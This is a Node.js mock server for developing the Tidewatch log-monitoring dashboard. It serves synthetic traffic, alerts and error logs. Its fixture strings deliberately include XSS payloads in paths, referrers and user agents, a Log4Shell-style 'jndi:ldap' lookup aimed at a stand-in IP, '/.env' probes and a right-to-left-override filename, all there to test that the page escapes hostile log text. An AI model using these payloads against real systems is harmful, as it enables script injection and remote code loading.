// A stand-in for Tidewatch's server while the page is developed: serves dist/ and made-up answers of the API, with the same
// headers and with text as hostile as real logs hold. Numbers are a function of time, so that a restart changes nothing.
//
//   node dev/mock.mjs [--port 8080] [--token T] [--base /path] [--trouble] [--empty] [--no-requests] [--no-store]
//     [--age MS] [--resting] [--sparse] [--messages] [--streams N] [--api URL]
//
// --trouble: a sink is away, requests are sampled. --empty: nothing was read yet. --age: the newest event is so old.
// --resting: started over a store, and nothing read since. --sparse: requests in one window of each hour. --messages: error logs alone.
// --streams: no more pages have a stream of events. --api: the page's files from here, all answers from a Tidewatch that runs there.

import { readFileSync } from "node:fs";
import { createServer, request as ask } from "node:http";
import { dirname, extname, join, normalize } from "node:path";
import { fileURLToPath } from "node:url";
import { parseArgs } from "node:util";
import { gzipSync } from "node:zlib";

const { values: options } = parseArgs({
  options: {
    port: { type: "string", default: "8080" },
    token: { type: "string" },
    base: { type: "string", default: "" },
    trouble: { type: "boolean" },
    empty: { type: "boolean" },
    "no-requests": { type: "boolean" },
    "no-store": { type: "boolean" },
    sparse: { type: "boolean" },
    messages: { type: "boolean" },
    resting: { type: "boolean" },
    age: { type: "string", default: "0" },
    streams: { type: "string", default: "64" },
    api: { type: "string" },
  },
});
const BASE = options.base.replace(/\/$/, "");
const DIST = join(dirname(fileURLToPath(import.meta.url)), "../dist");
const COOKIE = `tidewatch=${Buffer.from(options.token ?? "").toString("hex")}`;
const AGE = Number(options.age);
const STARTED = Date.now();
const WINDOW = 10_000;
const now = () => Date.now() - AGE;
const POLICY =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; font-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'";

// ---- made-up traffic ----

/** A number in [0, 1) that depends on its arguments alone. */
function noise(...of) {
  let h = 2166136261;
  for (const n of of) h = Math.imul(h ^ (n | 0) ^ Math.floor(n / 4294967296), 16777619) ^ (h >>> 13);
  h = Math.imul(h ^ (h >>> 16), 2246822507);
  return ((h ^ (h >>> 13)) >>> 0) / 4294967296;
}

const HOSTS = [["web1", 210], ["web2", 165], ["api", 96], ["<b>static</b>", 41]];
const PATHS = ["/", "/index.html", "/api/v1/orders", "/products/1184", "/search", "/static/app.js", "/login", "/cart", "/img/logo.svg", "/wp-login.php",
  "/<script>alert(document.domain)</script>", "/.env", "/\u202egnp.exe", "/a/very/long/path/" + "x".repeat(300), "/products/2210", "/api/v1/users/me"];
const AGENTS = [["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36", false],
  ["Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Mobile/15E148 Safari/604.1", false],
  ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", true], ["curl/8.5.0", true], ["python-requests/2.31.0", true],
  ['"><img src=x onerror=alert(1)>', false], ["${jndi:ldap://203.0.113.66/a}", false]];
const REFERRERS = ["https://www.example.org/", "https://news.example.com/item?id=41", "javascript:alert(1)", "<svg/onload=alert(1)>", "https://example.org/search?q=tide"];
const CLIENTS = ["198.51.100.23", "203.0.113.5", "192.0.2.77", "2001:db8:4:12::9f", "198.51.100.140", "203.0.113.6", "192.0.2.9", "203.0.113.201"];
const weighted = (list, x) => list[Math.min(list.length - 1, Math.floor(list.length * x * x))];

/** One whole window of a host. `share`: how much of it is over. */
function windowOf(host, time, share = 1) {
  const index = HOSTS.findIndex(([name]) => name === host);
  const day = Math.sin((time / 86_400_000) * 2 * Math.PI) * 0.25 + 1;
  const minutes = Math.sin(time / 173_000 + index) * 0.12 + 1;
  const spike = index === 0 && time % 600_000 < 40_000 ? 1.9 : 1;
  const surge = index === 1 && (time + 200_000) % 900_000 < 90_000 ? 0.13 : 0.004;
  const requests = Math.round(HOSTS[index][1] * 10 * day * minutes * spike * share * (0.94 + noise(time, index) * 0.12));
  const failed = Math.round(requests * surge * (0.7 + noise(time, index, 5) * 0.6));
  const missing = Math.round(requests * (0.03 + (spike - 1) * 0.2) * (0.8 + noise(time, index, 4) * 0.4));
  const moved = Math.round(requests * 0.09);
  const bytes = Math.round(requests * (9000 + noise(time, index, 2) * 4000));
  const slow = 1 + noise(time, index, 7) * 0.25 + (surge > 0.1 ? 1.6 : 0);
  return {
    time, host, requests, rps: requests / 10, bytes, throughput: bytes / 10, clients: Math.round(Math.sqrt(requests) * 4 * (0.9 + noise(time, index, 3) * 0.2)),
    error_ratio: requests ? failed / requests : 0, status_2xx: requests - failed - missing - moved, status_3xx: moved, status_4xx: missing, status_5xx: failed,
    latency_avg: 21 * slow, latency_p50: 14 * slow, latency_p95: 88 * slow, latency_p99: 190 * slow, latency_max: 420 * slow * (0.6 + noise(time, index, 8)),
    anomalies: spike > 1 || surge > 0.1 ? 1 : 0,
  };
}

const COLUMNS = ["time", "requests", "rps", "bytes", "throughput", "latency_avg", "latency_p50", "latency_p95", "latency_p99", "latency_max",
  "status_2xx", "status_3xx", "status_4xx", "status_5xx", "error_ratio", "clients", "anomalies"];

function series(query) {
  const to = Number(query.get("to") ?? now());
  const from = Math.max(Number(query.get("from") ?? to - 900_000), now() - 9 * 86_400_000);
  const step = Math.max(WINDOW, Number(query.get("step") ?? 0) || Math.ceil((to - from) / 1500 / WINDOW) * WINDOW);
  const hosts = query.get("host") ? HOSTS.filter(([name]) => name === query.get("host")) : HOSTS;
  const rows = [];
  for (let time = Math.ceil(from / step) * step; time < Math.min(to, now()); time += step) {
    if (options.sparse && time % 3_600_000 >= step) continue;
    const share = Math.min(1, (now() - Math.floor(now() / WINDOW) * WINDOW) / WINDOW);
    const all = hosts.map(([host]) => windowOf(host, time, step === WINDOW && time + WINDOW > now() ? share : 1));
    const sum = (name) => all.reduce((total, window) => total + window[name], 0);
    const most = (name) => Math.max(...all.map((window) => window[name]));
    const scale = Math.min(step, now() - time) / WINDOW;
    rows.push(COLUMNS.map((name) => {
      if (name === "time") return time;
      if (name === "error_ratio") return sum("requests") ? sum("status_5xx") / sum("requests") : null;
      if (name === "latency_avg") return sum("latency_avg") / all.length;
      if (["rps", "throughput"].includes(name)) return sum(name);
      if (name.startsWith("latency") || name === "clients") return most(name);
      return Math.round(sum(name) * (step === WINDOW ? 1 : scale));
    }));
  }
  return { from, to, step, columns: COLUMNS, rows: options.empty || options.messages || !hosts.length ? [] : rows, approximate: ["clients", "latency_p95"], truncated: false, begins: options.empty ? null : now() - 9 * 86_400_000 };
}

function request(time, serial) {
  const r = (n) => noise(time, serial, n);
  const attack = r(1) < 0.12;
  const [agent] = weighted(AGENTS, r(2));
  const path = attack ? PATHS[9 + Math.floor(r(3) * 4)] : weighted(PATHS, r(3));
  const status = attack ? 404 : r(4) < 0.88 ? 200 : r(4) < 0.95 ? 304 : r(4) < 0.985 ? 404 : 502;
  return { time, host: weighted(HOSTS, r(5))[0], client: attack ? "203.0.113.5" : weighted(CLIENTS, r(6)), method: r(7) < 0.85 ? "GET" : r(7) < 0.97 ? "POST" : "HEAD", path,
    query: r(8) < 0.2 ? "q=<script>alert(1)</script>&page=2" : null, status, bytes: Math.round(r(9) * 24_000), latency_ms: Math.round(r(10) ** 3 * 4000) / 10, agent, referrer: r(11) < 0.4 ? weighted(REFERRERS, r(12)) : null };
}

function requests(query) {
  const [from, to] = [Math.max(Number(query.get("from") ?? 0), now() - 3_600_000), Math.min(Number(query.get("before")?.split(".")[0] ?? query.get("to") ?? Infinity), now())];
  const limit = Math.min(1000, Number(query.get("limit") ?? 200));
  const status = query.get("status") ?? "";
  const rows = [];
  for (let time = Math.floor((to - 1) / 100) * 100; time >= from && rows.length < limit; time -= 100) {
    const row = request(time, 0);
    const text = [row.host, row.client, row.path, row.query, row.agent, row.referrer].join(" ").toLowerCase();
    if ((query.get("host") ?? row.host) !== row.host || (query.get("client") ?? row.client) !== row.client) continue;
    if (status && !(status.endsWith("xx") ? String(row.status)[0] === status[0] : String(row.status) === status)) continue;
    if (!row.path.includes(query.get("path") ?? "") || !text.includes((query.get("text") ?? "").toLowerCase())) continue;
    rows.push(row);
  }
  return { rows: options.empty ? [] : rows, sampled: Boolean(options.trouble), from: now() - 3_600_000, truncated: rows.length === limit, next: rows.length === limit ? `${rows.at(-1).time}.0` : null };
}

const RULES = [
  ["ip-spike", "high", "count", ["client_ip"], 100, 10_000, 1000], ["error-surge", "high", "ratio({status: [500..599]})", ["host"], 0.05, 60_000, 10_000],
  ["path-scan", "medium", "distinct(path)", ["client_ip"], 20, 60_000, 10_000], ["port-scan", "high", "distinct(port)", ["client_ip"], 10, 60_000, 10_000],
  ["error-log", "critical", "count", ["host", "pattern"], 1, 10_000, 10_000], ["dark-paths", "low", "dark_paths(2)", ["client_ip"], 2, 600_000, 60_000],
  ["slow-pages <i>mine</i>", "info", "quantile(latency_ms, 0.95)", ["host"], 1500, 60_000, 60_000]];
const acknowledged = new Map();
const CONFIGURED = { id: null, rule: "path-scan", subject: { client_ip: "198.51.100.0/24" }, from: null, until: STARTED + 7 * 86_400_000, reason: "our own scanner <i>of links</i>", created: null, configured: true };
let silences = [CONFIGURED];
let silencesMade = 0;
const EVERY = 45_000;

function alertAt(serial) {
  const fired = serial * EVERY;
  const [rule, severity, , group, threshold, window] = RULES[Math.floor(noise(serial, 1) * 6)];
  const value = threshold < 1 ? threshold * (1.1 + noise(serial, 2) * 4) : Math.round(threshold * (1 + noise(serial, 2) ** 2 * 9));
  const subject = Object.fromEntries(group.map((field) => [field, field === "client_ip" ? CLIENTS[Math.floor(noise(serial, 3) * CLIENTS.length)] : field === "host" ? HOSTS[Math.floor(noise(serial, 3) * 4)][0] : "worker process <*> exited on signal <*> <img src=x onerror=alert(1)>"]));
  const id = `a${serial.toString(16).padStart(15, "0")}`;
  const last = Math.min(now(), fired + window * (1 + Math.floor(noise(serial, 4) * 5)));
  const line = (n) => `${subject.client_ip ?? "192.0.2.9"} - - [26/Nov/2026:10:${10 + n}:02 +0000] "GET ${PATHS[9 + n]} HTTP/1.1" 404 153 "<svg/onload=alert(1)>" "${AGENTS[5 + (n % 2)][0]}"`;
  return { id, key: `k${rule}`, rule, severity, host: subject.host ?? "*", subject, first: fired - window / 2, last, fired, value, threshold, score: value / (value + threshold), findings: 1 + Math.floor(noise(serial, 5) * 9),
    state: now() - fired < 120_000 ? "firing" : noise(serial, 6) < 0.05 ? "withdrawn" : "resolved", evidence: [line(0), line(1), line(2)], mode: noise(serial, 7) < 0.08 ? "shadow" : "live", replaces: null,
    acknowledged: acknowledged.get(id) ?? null, silenced: silences.some((silence) => !silence.configured && (silence.rule ?? rule) === rule) };
}

function alerts(query) {
  const [from, to] = [Number(query.get("from") ?? now() - 3_600_000), Math.min(Number(query.get("before") ?? query.get("to") ?? Infinity), now())];
  const limit = Number(query.get("limit") ?? 100);
  const rows = [];
  let truncated = false;
  for (let serial = Math.floor((to - 1) / EVERY); serial * EVERY >= Math.max(from, now() - 86_400_000); serial -= 1) {
    const alert = alertAt(serial);
    if (["rule", "severity", "state", "host"].some((name) => query.get(name) && alert[name] !== query.get(name))) continue;
    if (query.get("subject") && !Object.values(alert.subject).some((value) => value.includes(query.get("subject")))) continue;
    if (rows.length === limit) truncated = true;
    else rows.push(alert);
  }
  return { rows: options.empty ? [] : rows, truncated };
}

function tops(query) {
  const kind = query.get("kind");
  const names = { paths: PATHS, slow_paths: PATHS, clients: CLIENTS, agents: AGENTS.map(([name]) => name), referrers: REFERRERS, methods: ["GET", "POST", "HEAD", "OPTIONS"], hosts: HOSTS.map(([name]) => name), countries: ["Germany (DE)", "France (FR)", "<i>Elsewhere</i> (XX)", ""] }[kind];
  const [to, from] = [Number(query.get("to") ?? now()), Number(query.get("from") ?? now() - 900_000)];
  const whole = ((to - from) / 1000) * 512;
  const limit = Number(query.get("limit") ?? 20);
  const rows = names.slice(0, limit).map((name, at) => {
    const share = 0.34 / (at + 1) ** 1.15;
    const count = Math.round(whole * share);
    const bad = /[<.]|login|\u202e/.test(name) && kind === "paths";
    return { name, requests: count, share, ...(["paths", "clients", "hosts", "countries"].includes(kind) ? { bytes: count * 9400, status_4xx: Math.round(count * (bad ? 0.9 : 0.03)), status_5xx: Math.round(count * 0.006) } : {}),
      ...(kind === "slow_paths" ? { latency_p95: 2400 / (at + 1) } : {}), ...(kind === "agents" ? { bot: AGENTS[at][1] } : {}) };
  });
  return { kind, rows: options.empty ? [] : rows, truncated: names.length > limit, ...(kind === "agents" ? { bot_share: 0.0348 } : {}) };
}

const PATTERNS = [["crit", "SSL_do_handshake() failed (SSL: error:<*>) while SSL handshaking, client: <*>"], ["error", "open() \"<*>\" failed (2: No such file or directory), client: <*>"],
  ["error", "upstream timed out (110: Connection timed out) while reading response header from upstream"], ["warn", "an upstream response is buffered to a temporary file <*>"], ["error", "PHP Fatal error: <script>alert(1)</script> in <*>"], ["notice", "signal process started"]];

function errors(query) {
  const [to, from] = [Number(query.get("to") ?? now()), Number(query.get("from") ?? now() - 900_000)];
  const step = Math.max(WINDOW, Math.ceil((to - from) / 60 / WINDOW) * WINDOW);
  const wanted = query.get("severity");
  const rows = PATTERNS.flatMap(([severity, pattern], at) => HOSTS.slice(0, 1 + (at % 3)).map(([host], n) => ({ host, severity, pattern, count: Math.round(((to - from) / 1000) * (at + 1) * 0.05 / (n + 1)) + 1, example: pattern.replaceAll("<*>", "203.0.113.5"), last: to - at * 7000 })));
  const points = [];
  for (let time = Math.ceil(from / step) * step; time < to; time += step) points.push([time, 0, 0, Math.round(noise(time, 1) * 2), Math.round(noise(time, 2) * 14), Math.round(noise(time, 3) * 9), Math.round(noise(time, 4) * 5)]);
  return { rows: options.empty ? [] : rows.filter((row) => !wanted || row.severity === wanted), series: { columns: ["time", "emerg", "alert", "crit", "error", "warn", "notice"], rows: options.empty ? [] : points, step }, truncated: false };
}

function client(query) {
  const ip = query.get("ip");
  const mine = new URLSearchParams(query);
  mine.set("client", ip);
  mine.set("limit", "200");
  const rows = requests(mine).rows;
  const [to, from] = [Number(query.get("to") ?? now()), Number(query.get("from") ?? now() - 900_000)];
  const step = Math.max(WINDOW, Math.ceil((to - from) / 90 / WINDOW) * WINDOW);
  const points = [];
  for (let time = Math.ceil(from / step) * step; rows.length && time < to; time += step) points.push([time, Math.round(noise(time, 9) * 9), 0, Math.round(noise(time, 8) ** 3 * 60), 0]);
  const count = (of) => [...rows.reduce((all, row) => all.set(row[of], (all.get(row[of]) ?? 0) + 1), new Map())].map(([name, n]) => ({ name: name ?? "", requests: n })).sort((a, b) => b.requests - a.requests).slice(0, 5);
  return { alerts: alerts(new URLSearchParams({ subject: ip, from: String(from) })).rows, series: { columns: ["time", "status_2xx", "status_3xx", "status_4xx", "status_5xx"], rows: points, step }, paths: count("path"), agents: count("agent"), first: rows.at(-1)?.time ?? null, last: rows[0]?.time ?? null, requests: rows, kept: rows.length, sampled: Boolean(options.trouble), one_in: options.trouble ? 64 : 1, truncated: false };
}

function time() {
  const t = now();
  const partitions = ["web-logs/0", "web-logs/1", "web-logs/2", "/var/log/nginx/<b>error</b>.log"].map((partition, at) => ({ process: 0, source: at < 3 ? "kafka" : "file", partition, watermark: t - 5000 - at * 400 - Math.round(noise(Math.floor(t / 2000), at) * 900), last_event: t - at * 300,
    watermark_delay_ms: AGE + 5000 + at * 400 + Math.round(noise(Math.floor(t / 2000), at) * 900), lag_messages: at < 3 ? Math.round(noise(Math.floor(t / 2000), at, 2) * 400) : null, state: ["active", "active", "back-pressured", "idle"][at], since: STARTED, events: Math.floor((Date.now() - STARTED) / 1000) * 128, rejected: at, late: at * 2, future: 0 }));
  return options.empty ? { frontier: null, held_by: null, partitions: [], truncated: false } : { frontier: t - 6200, held_by: { process: 0, source: "kafka", partition: "web-logs/2", since: STARTED, why: "slow" }, partitions, truncated: false };
}

function dataflow() {
  const names = ["Frame", "Parse", "Stamp", "Partials: hosts", "Exchange", "Windows: http_stats", "Windows: top_paths", "Rules: provisional", "Rules: closed", "Episodes", "Sinks", "Durable"];
  const tick = Math.floor(Date.now() / 2000);
  const operators = [0, 1].flatMap((worker) => names.map((name, id) => ({ process: 0, worker, id, address: [0, 1 + id], name, busy_ms: (900 / (id + 1) ** 1.4) * (0.8 + noise(tick, id, worker) * 0.4), share: (0.18 / (id + 1) ** 1.4) * (0.8 + noise(tick, id, worker) * 0.4), activations: 5000 - id * 300, records_in: id ? Math.round(2560 / id) : 0, records_out: Math.round(2560 / (id + 1)) })));
  return { over_ms: 5000, workers: [0, 1].map((index) => ({ process: 0, index, busy: 0.3 + noise(tick, index) * 0.1, parked: 0.5 + noise(tick, index, 1) * 0.1, memory_bytes: 187 << 20 })), operators, frontiers: ["sources", "windows", "rules", "durable"].map((name, at) => ({ name, time: options.empty ? null : now() - 5000 - at * 1500 })), truncated: false };
}

function status() {
  const newest = options.empty ? null : now();
  const read = options.resting ? null : newest;
  return { version: "0.4.0", mode: "demo", started: STARTED, now: Date.now(), first_event: read && read - 86_400_000, last_event: read, newest, durable: read && read - 9000, hosts: options.empty ? [] : HOSTS.map(([name]) => name), events: !read ? 0 : 1_284_310 + Math.floor((Date.now() - STARTED) * 0.512), rejected: 12, late: 3, future: 0, rate: options.empty ? 0 : 512,
    alerts: { fired: 1920, firing: alerts(new URLSearchParams({ state: "firing" })).rows.length, critical: 38 }, anomaly_rate: 0.00042, workers: 2, processes: 1, memory_bytes: 187 << 20,
    history: !options["no-store"],
    catching_up: options.trouble ? { for_ms: 9000, share: 0.437, partitions: 2, records_left: 1_200_000, bytes_left: 0 } : null,
    countries: !options["no-store"],
    sources: [{ name: "web-logs", partitions: 12, away: options.trouble ? 12 : 0 }],
    sinks: [{ name: "store", state: "ok", waiting_bytes: 0, dropped_bytes: 0, refused: 0 }, { name: "influx", state: options.trouble ? "away" : "ok", waiting_bytes: options.trouble ? 48 << 20 : 0, dropped_bytes: 0, refused: 0 }],
    requests: { enabled: !options["no-requests"] && !options["no-store"], kept: options.empty ? 0 : 36_000, from: newest && newest - 3_600_000, sampled: Boolean(options.trouble), partial: Boolean(options.trouble), without: options.trouble ? [1] : [] } };
}

// ---- HTTP ----

const TYPES = { ".html": "text/html; charset=utf-8", ".js": "text/javascript", ".css": "text/css", ".svg": "image/svg+xml" };

function answer(response, code, body, headers = {}) {
  response.writeHead(code, { "Content-Type": "application/json", "Cache-Control": "no-store", ...headers });
  response.end(body === undefined ? "" : typeof body === "string" || Buffer.isBuffer(body) ? body : JSON.stringify(body));
}
const refuse = (response, code, name, message) => answer(response, code, { error: { code: name, message } });

/** Everybody who listens. */
const streams = new Set();

function stream(response, query) {
  if (streams.size >= Number(options.streams)) return refuse(response, 503, "unavailable", `${options.streams} pages are open already`);
  response.writeHead(200, { "Content-Type": "text/event-stream", "Cache-Control": "no-store" });
  const tell = (event, data) => response.write(`event: ${event}\ndata: ${JSON.stringify(data)}\n\n`);
  tell("hello", status());
  streams.add(tell);
  let serial = Math.floor(now() / EVERY);
  const timer = setInterval(() => {
    tell("status", status());
    if (options.empty || options.messages) return;
    const open = Math.floor(now() / WINDOW) * WINDOW;
    for (const [host] of HOSTS) tell("window", windowOf(host, open, (now() - open) / WINDOW));
    if (query.get("requests") === "1") tell("requests", Array.from({ length: 10 }, (_, at) => request(Math.floor(now() / 100) * 100 - 900 + at * 100, 0)));
    const next = Math.floor(now() / EVERY);
    if (next > serial) {
      const { acknowledged: _, ...alert } = alertAt((serial = next)); // as it changes, nobody looks what was said of it
      tell("alert", alert);
    }
  }, 1000);
  response.on("close", () => (clearInterval(timer), streams.delete(tell)));
}

function api(path, method, query, body, response) {
  const views = { status, time, dataflow, series: () => series(query), tops: () => tops(query), errors: () => errors(query), alerts: () => alerts(query), requests: () => requests(query), client: () => client(query),
    silences: () => ({ rows: silences }),
    allowed: () => ({ rows: options.empty ? [] : [{ where: 'client_ip = ["192.0.2.0/24"] and agent|contains = ["UptimeRobot"]', rules: [], until: null, reason: "our own monitoring", events: 48_210 }, { where: 'path|startswith = ["/health"]', rules: ["ip-spike", "path-scan"], until: now() - 86_400_000, reason: "load test of last week", events: 0 }] }),
    rules: () => ({ rows: RULES.map(([name, severity, measure, group_by, threshold, window_ms, hop_ms], at) => ({ name, enabled: at !== 6, mode: at === 5 ? "shadow" : "live", severity, measure, where: at === 2 ? "status: 404" : "", group_by, window_ms, hop_ms, threshold, at_least: at === 1 ? 50 : null, baseline_factor: at === 1 ? 3 : null, resolve_after_ms: 60_000, firing: alerts(new URLSearchParams({ state: "firing", rule: name })).rows.length, fired: 40 - at * 5, prevented: at === 0 ? 7 : 0 })) }) };
  if (options["no-store"] && /^(series|tops|errors|alerts|silences|client|requests)/.test(path)) return refuse(response, 503, "not_kept", "this run keeps no store: ask the database that it writes to");
  const one = /^alerts\/a([0-9a-f]{15})(\/acknowledge)?$/.exec(path);
  if (one && method === "GET") return answer(response, 200, alertAt(parseInt(one[1], 16)));
  if (one?.[2]) {
    const id = `a${one[1]}`;
    if (method === "DELETE") acknowledged.delete(id);
    else acknowledged.set(id, { at: Date.now(), by: "127.0.0.1", note: JSON.parse(body || "{}").note ?? "" });
    for (const tell of streams) tell("alert", alertAt(parseInt(one[1], 16)));
    return answer(response, 200, alertAt(parseInt(one[1], 16)));
  }
  if (path === "silences" && method === "POST") {
    const silence = { id: (silencesMade += 1), created: Date.now(), rule: null, subject: null, from: null, configured: false, ...JSON.parse(body) };
    silences.push(silence);
    for (const tell of streams) tell("silences", { rows: silences });
    return answer(response, 201, silence);
  }
  if (path.startsWith("silences/") && method === "DELETE") {
    silences = silences.filter((silence) => `silences/${silence.id}` !== path);
    for (const tell of streams) tell("silences", { rows: silences });
    return answer(response, 204);
  }
  if (path === "stream") return stream(response, query);
  return views[path] ? answer(response, 200, views[path]()) : refuse(response, 404, "not_found", `there is no ${path}`);
}

/** Asks the real one, and hands on what it says as it comes. */
function pass(incoming, response, path) {
  const to = new URL(path, options.api);
  const asked = ask(to, { method: incoming.method, headers: { ...incoming.headers, host: to.host } }, (answered) => {
    response.writeHead(answered.statusCode, answered.headers);
    answered.pipe(response);
  });
  asked.on("error", () => (response.headersSent ? response.destroy() : refuse(response, 502, "unreachable", "no Tidewatch answers there")));
  response.on("close", () => asked.destroy());
  incoming.pipe(asked);
}

const server = createServer((incoming, response) => {
  const url = new URL(incoming.url, "http://mock");
  response.setHeader("Content-Security-Policy", POLICY);
  response.setHeader("X-Content-Type-Options", "nosniff");
  response.setHeader("Referrer-Policy", "no-referrer");
  if (BASE && url.pathname === BASE) return answer(response, 308, "", { Location: `${BASE}/` });
  if (!url.pathname.startsWith(`${BASE}/`)) return refuse(response, 404, "not_found", "not under the base path");
  const path = url.pathname.slice(BASE.length + 1);
  if (!path.startsWith("api/v1/")) {
    try {
      const file = normalize(path || "index.html");
      const body = gzipSync(readFileSync(join(DIST, file.startsWith("..") ? "index.html" : file)));
      return answer(response, 200, body, { "Content-Type": TYPES[extname(file)] ?? "application/octet-stream", "Content-Encoding": "gzip", "Cache-Control": path.startsWith("assets/") ? "public, max-age=31536000, immutable" : "no-cache" });
    } catch {
      return refuse(response, 404, "not_found", "no such file; was the page built?");
    }
  }
  if (options.api) return pass(incoming, response, path + url.search);
  let body = "";
  incoming.on("data", (chunk) => (body += chunk));
  incoming.on("end", () => {
    const name = path.slice("api/v1/".length);
    if (incoming.method !== "GET" && incoming.headers["x-tidewatch"] !== "1") return refuse(response, 403, "forbidden", "the header X-Tidewatch: 1 is missing");
    if (name === "login") {
      if (JSON.parse(body).token !== options.token) return refuse(response, 401, "unauthorised", "this is not the token of this page");
      return answer(response, 204, undefined, { "Set-Cookie": `${COOKIE}; Path=${BASE || "/"}; HttpOnly; SameSite=Strict` });
    }
    if (options.token && !(incoming.headers.cookie ?? "").includes(COOKIE)) return refuse(response, 401, "unauthorised", "a token is needed");
    api(name, incoming.method, url.searchParams, body, response);
  });
});
server.listen(Number(options.port), "127.0.0.1", () => console.log(`http://127.0.0.1:${server.address().port}${BASE}/`));
